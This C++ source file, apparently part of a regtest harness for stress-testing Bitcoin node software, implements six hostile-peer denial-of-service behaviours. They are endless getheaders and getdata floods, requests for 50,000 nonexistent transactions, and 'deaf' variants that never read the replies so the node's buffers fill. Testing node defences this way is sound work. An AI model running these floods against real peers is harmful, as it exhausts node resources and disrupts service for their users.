/// Those who ask for more than they take.

#include <bitpeer/crypto/sha256.hpp>
#include <bitpeer/params/networks.hpp>
#include <bitpeer/wire/block_header.hpp>
#include <bitpeer/wire/codec.hpp>
#include <bitpeer/wire/messages/getdata.hpp>
#include <bitpeer/wire/messages/getheaders.hpp>
#include <bitpeer/wire/messages/headers.hpp>

#include "kind.hpp"
#include "speech.hpp"

namespace bitpeer::abuse {

namespace {

namespace asio = boost::asio;

[[nodiscard]] bytes question_for_headers() {
    wire::getheaders question;
    question.locator = wire::locator{networks::bitcoin_regtest.genesis_hash};
    return frame("getheaders", wire::encode(question).value());
}

/// A question for all blocks whose headers these are.
[[nodiscard]] bytes question_for_blocks(const bytes& headers_payload) {
    wire::getdata question;
    if (const auto told = wire::decode<wire::headers>(headers_payload)) {
        for (const auto& item : told->items) {
            question.items.push_back(
                {wire::inventory_type::witness_block, wire::block_hash(item.header)}
            );
        }
    }
    return frame("getdata", wire::encode(question).value());
}

/// Answers are 400 times as long as the question, and read.
asio::awaitable<void> ask_headers_without_end(hostile& h) {
    const bool up = co_await h.shake_hands();
    if (!up) co_return;
    h.ignore_answers();
    const auto storm = repeated(question_for_headers());
    co_await h.write_for_ever(storm);
}

asio::awaitable<void> ask_headers_and_never_read(hostile& h) {
    const bool up = co_await h.shake_hands();
    if (!up) co_return;
    const auto storm = repeated(question_for_headers());
    co_await h.write_for_ever(storm);
}

/// The whole chain, again and again.
asio::awaitable<void> ask_blocks(hostile& h, bool reads) {
    const bool up = co_await h.shake_hands();
    if (!up) co_return;
    const auto first = question_for_headers();
    const bool sent = co_await h.write(first);
    if (!sent) co_return;
    const auto told = co_await h.await_message("headers");
    if (!told) co_return;
    if (reads) h.ignore_answers();
    const auto question = question_for_blocks(*told);
    co_await h.write_for_ever(question);
}

asio::awaitable<void> ask_blocks_without_end(hostile& h) { return ask_blocks(h, true); }
asio::awaitable<void> ask_blocks_and_never_read(hostile& h) { return ask_blocks(h, false); }

/// 50,000 things that nobody has, each of which has to be looked for and named in the answer.
asio::awaitable<void> ask_for_nothing(hostile& h, bool reads) {
    const bool up = co_await h.shake_hands();
    if (!up) co_return;
    if (reads) h.ignore_answers();
    wire::getdata question;
    question.items.resize(50'000, {wire::inventory_type::witness_transaction, {}});
    const auto storm = frame("getdata", wire::encode(question).value());
    co_await h.write_for_ever(storm);
}

asio::awaitable<void> ask_for_nothing_and_read(hostile& h) { return ask_for_nothing(h, true); }
asio::awaitable<void> ask_for_nothing_deaf(hostile& h) { return ask_for_nothing(h, false); }

}  // namespace

std::span<const kind> asking_kinds() {
    static const kind all[] = {
        {"getheaders_flood", ask_headers_without_end},
        {"getheaders_deaf", ask_headers_and_never_read},
        {"getdata_flood", ask_blocks_without_end},
        {"getdata_deaf", ask_blocks_and_never_read},
        {"getdata_of_nothing", ask_for_nothing_and_read},
        {"getdata_of_nothing_deaf", ask_for_nothing_deaf},
    };
    return all;
}

}  // namespace bitpeer::abuse
